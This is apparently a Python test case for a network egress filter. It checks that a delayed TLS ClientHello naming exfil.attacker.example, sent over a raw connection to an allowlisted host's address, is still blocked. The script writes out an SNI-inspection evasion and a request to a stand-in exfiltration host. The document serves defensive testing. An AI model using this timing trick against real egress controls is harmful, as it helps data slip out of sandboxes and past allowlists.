# what: silent past the sniff timeout toward allowed.test's address on 443, then a ClientHello for exfil.attacker.example
# expect-allowed: allowed.test dns
# expect-denied: exfil.attacker.example 443 tls not_allowlisted
# inet: allow allowed.test
# expect-stdout: ^BLOCKED: .*ACCESS_DENIED
import socket, ssl, time

# allowed.test is resolved first: its address is then one raw TCP may
# reach, so only judging the late ClientHello keeps its SNI from passing.
socket.getaddrinfo("allowed.test", 443)
try:
    raw = socket.create_connection(("198.18.1.10", 443), timeout=10)
    time.sleep(1.5)
    s = ssl._create_unverified_context().wrap_socket(raw, server_hostname="exfil.attacker.example")
    s.sendall(b"GET /host HTTP/1.1\r\nHost: exfil.attacker.example\r\nConnection: close\r\n\r\n")
    print("LEAK:", s.recv(300))
except Exception as e:
    print("BLOCKED:", type(e).__name__, e)
